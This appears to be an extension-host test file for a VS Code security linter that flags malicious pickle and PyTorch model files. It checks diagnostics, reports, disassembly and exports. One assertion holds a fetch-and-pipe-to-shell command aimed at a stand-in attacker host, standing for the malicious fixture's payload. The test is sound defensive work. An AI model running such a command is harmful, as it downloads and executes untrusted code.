// The extension-host tests: the real `vscode` API against the real extension and server.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { PROBES_NEED_TRUST, PROBES_ONNX_ONLY } from '../../../client/src/trust';
import { ALL_COMMANDS } from '../../../server/src/protocol/commands';
import type { FileScanReport } from '../../../server/src/protocol/messages';
import { REPORT_VIEW_TYPES } from '../../../server/src/protocol/modelFiles';
import { EVIL_COMMAND, FIXED_LINE, FIXTURE_FILES } from '../fixture';
import { activeCustomTab, api, closeAllEditors, codeOf, reportFor, waitFor, waitForCode, workspaceUri, type Test } from './util';

const activates: Test = ['activates', async () => {
  await api();
  const ext = vscode.extensions.getExtension('model-security-lint.model-security-lint');
  assert.equal(ext?.isActive, true);
}];

const publishesMalicious: Test = ['publishes a critical MSL601 for the malicious pickle without opening it', async () => {
  const d = await waitForCode(workspaceUri(FIXTURE_FILES.evil), 'MSL601');
  assert.equal(d.severity, vscode.DiagnosticSeverity.Error);
  assert.equal(d.source, 'Model Security Lint');
  assert.ok(typeof d.code === 'object' && d.code.target.toString().endsWith('MSL601.md'));
  // Binary files have no lines: the range is the file's start, so opening it from Problems opens the report.
  assert.deepEqual([d.range.start.line, d.range.start.character, d.range.end.line, d.range.end.character], [0, 0, 0, 0]);
  assert.match(d.message, /curl http:\/\/attacker\.example\/x \| sh/);
}];

export const trustedTests: Test[] = [
  activates,
  ['registers every command of the table', async () => {
    const all = new Set(await vscode.commands.getCommands(true));
    for (const c of ALL_COMMANDS) assert.ok(all.has(c.id), c.id);
  }],
  publishesMalicious,
  ['Scan This File returns the report for the given file', async () => {
    const report = (await vscode.commands.executeCommand('msl.scanFile', workspaceUri(FIXTURE_FILES.evil))) as FileScanReport;
    assert.equal(report.format, 'pickle');
    assert.equal(report.counts.critical, 1);
  }],
  ['applies the MSL101 quick fix to a script', async () => {
    const uri = workspaceUri(FIXTURE_FILES.script);
    const doc = await vscode.workspace.openTextDocument(uri);
    await vscode.window.showTextDocument(doc);
    const d = await waitForCode(uri, 'MSL101');
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', uri, d.range, vscode.CodeActionKind.QuickFix.value);
    const fix = actions.find((a) => a.title === 'Add weights_only=True');
    assert.ok(fix?.edit, 'the quick fix is offered');
    assert.equal(await vscode.workspace.applyEdit(fix.edit), true);
    assert.equal(doc.lineAt(d.range.start.line).text, FIXED_LINE);
    await waitFor(() => !vscode.languages.getDiagnostics(uri).some((x) => codeOf(x) === 'MSL101'), 'MSL101 to clear');
    await vscode.commands.executeCommand('workbench.action.files.revert');
    await closeAllEditors();
  }],
  ['opening a .pkl opens the report (default custom editor) with the critical finding and its evidence', async () => {
    const uri = workspaceUri(FIXTURE_FILES.evil);
    await vscode.commands.executeCommand('vscode.open', uri);
    const tab = await waitFor(() => activeCustomTab(), 'a custom editor tab');
    assert.equal(tab.viewType, REPORT_VIEW_TYPES.default);
    const state = await reportFor(uri);
    const f = state.report!.findings.find((x) => x.ruleId === 'MSL601');
    assert.equal(f?.severity, 'critical');
    assert.equal(f?.evidence, `os.system('${EVIL_COMMAND}')`);
    assert.equal(state.report!.format, 'pickle');
    assert.match(state.report!.sha256 ?? '', /^[0-9a-f]{64}$/);
    assert.equal(state.disassemblyStreams, 1);
    assert.equal(state.context.priority, 'default');
    assert.equal(state.context.trusted, true);
    assert.deepEqual(state.context.probes, { enabled: false, reason: PROBES_ONNX_ONLY });
    await closeAllEditors();
  }],
  ['a PyTorch checkpoint report carries its archive members and pickle imports', async () => {
    const uri = workspaceUri(FIXTURE_FILES.checkpoint);
    await vscode.commands.executeCommand('vscode.open', uri);
    const state = await reportFor(uri);
    const names = (state.report!.summary.members ?? []).map((m) => m.name);
    assert.ok(names.includes('checkpoint/data.pkl'), names.join(', '));
    const imports = (state.report!.summary.pickles ?? []).flatMap((p) => p.imports.map((i) => `${i.module}.${i.name}:${i.verdict}`));
    assert.ok(imports.includes('os.system:dangerous'), imports.join(', '));
    await closeAllEditors();
  }],
  ['an ambiguous .bin is offered the report ("option" priority), and Open Report opens it', async () => {
    const uri = workspaceUri(FIXTURE_FILES.ambiguous);
    assert.equal(await vscode.commands.executeCommand('msl.openReport', uri), true);
    const tab = await waitFor(() => activeCustomTab(), 'a custom editor tab');
    assert.equal(tab.viewType, REPORT_VIEW_TYPES.option);
    const state = await reportFor(uri);
    assert.equal(state.context.priority, 'option');
    assert.equal(state.report!.findings[0]?.ruleId, 'MSL601');
    await closeAllEditors();
  }],
  ['Show Disassembly opens a pickle-disassembly document with the dangerous lines as diagnostics', async () => {
    const file = workspaceUri(FIXTURE_FILES.evil);
    const docUri = (await vscode.commands.executeCommand('msl.showDisassembly', file)) as string;
    const doc = vscode.workspace.textDocuments.find((d) => d.uri.toString() === docUri);
    assert.ok(doc, 'the disassembly document is open');
    assert.equal(doc.uri.scheme, 'msl-disasm');
    assert.equal(doc.languageId, 'pickle-disassembly');
    assert.match(doc.lineAt(0).text, /^# evil\.pkl @ 0x0$/);
    const diags = await waitFor(() => vscode.languages.getDiagnostics(doc.uri).length >= 2 && vscode.languages.getDiagnostics(doc.uri), 'disassembly diagnostics');
    const lines = diags.map((d) => doc.lineAt(d.range.start.line).text);
    assert.ok(lines.some((l) => /GLOBAL\s+'os' 'system'/.test(l)), lines.join('\n'));
    assert.ok(lines.some((l) => /REDUCE/.test(l)), lines.join('\n'));
    assert.ok(diags.every((d) => d.severity === vscode.DiagnosticSeverity.Error));
    assert.equal(vscode.window.activeTextEditor?.selection.active.line, diags[0]!.range.start.line, 'opens at the first dangerous line');
    await closeAllEditors();
  }],
  ['Export Report writes SARIF, JSON and Markdown from the CLI formatters', async () => {
    const file = workspaceUri(FIXTURE_FILES.evil);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'msl-export-'));
    const target = (name: string) => vscode.Uri.file(path.join(dir, name));
    await vscode.commands.executeCommand('msl.exportReport', file, 'sarif', target('r.sarif'));
    const sarif = JSON.parse(fs.readFileSync(path.join(dir, 'r.sarif'), 'utf8'));
    assert.equal(sarif.version, '2.1.0');
    assert.equal(sarif.runs[0].results[0].ruleId, 'MSL601');
    assert.equal(sarif.runs[0].results[0].level, 'error');
    await vscode.commands.executeCommand('msl.exportReport', file, 'json', target('r.json'));
    const json = JSON.parse(fs.readFileSync(path.join(dir, 'r.json'), 'utf8'));
    assert.equal(json.results[0].path, FIXTURE_FILES.evil);
    assert.equal(json.summary.findings.critical, 1);
    await vscode.commands.executeCommand('msl.exportReport', file, 'markdown', target('r.md'));
    const md = fs.readFileSync(path.join(dir, 'r.md'), 'utf8');
    assert.match(md, /Dangerous: do not load this file/);
    assert.match(md, /\| 🔴 critical \| `MSL601` \|/);
    fs.rmSync(dir, { recursive: true, force: true });
  }],
  ['msl.exclude takes effect', async () => {
    const uri = workspaceUri(FIXTURE_FILES.evil);
    const config = vscode.workspace.getConfiguration('msl');
    const previous = config.get<string[]>('exclude');
    await config.update('exclude', [...(previous ?? []), '**/models/**'], vscode.ConfigurationTarget.Workspace);
    try {
      await waitFor(() => vscode.languages.getDiagnostics(uri).length === 0, 'the excluded pickle to clear');
    } finally {
      await config.update('exclude', undefined, vscode.ConfigurationTarget.Workspace);
    }
    await waitForCode(uri, 'MSL601');
  }],
];

export const restrictedTests: Test[] = [
  ['the workspace is not trusted', async () => {
    assert.equal(vscode.workspace.isTrusted, false);
  }],
  activates,
  publishesMalicious,
  ['the report says Restricted Mode and keeps probes disabled for that reason', async () => {
    const uri = workspaceUri(FIXTURE_FILES.evil);
    await vscode.commands.executeCommand('vscode.open', uri);
    const state = await reportFor(uri);
    assert.equal(state.context.trusted, false);
    assert.deepEqual(state.context.probes, { enabled: false, reason: PROBES_NEED_TRUST });
    assert.equal(state.report!.findings[0]?.ruleId, 'MSL601', 'static analysis still runs');
    await closeAllEditors();
  }],
];
